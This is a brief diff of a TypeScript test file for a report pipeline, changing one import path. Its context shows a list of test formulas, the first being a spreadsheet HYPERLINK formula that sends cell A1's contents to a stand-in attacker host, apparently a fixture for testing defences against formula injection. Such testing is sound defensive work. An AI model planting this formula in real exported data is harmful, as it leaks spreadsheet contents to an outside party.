@@ -7,7 +7,7 @@ import { runReport } from '../../../pipelines/report/run/run-report.ts';
 import { buildIssue } from '../../../shared/testing/build-issue.ts';
 import { buildIndexedItem, buildLabels } from '../../../shared/testing/build-item.ts';
 import { buildPerson, buildStakeholder } from '../../../shared/testing/build-stakeholder.ts';
-import { asToken, openTestApp, type TestApp } from '../testdata/open-app.ts';
+import { asToken, openTestApp, type TestApp } from '../testing/open-test-people.ts';
 
 const formulas = [
   '=HYPERLINK("https://jahat.example?"&A1,"klik")',
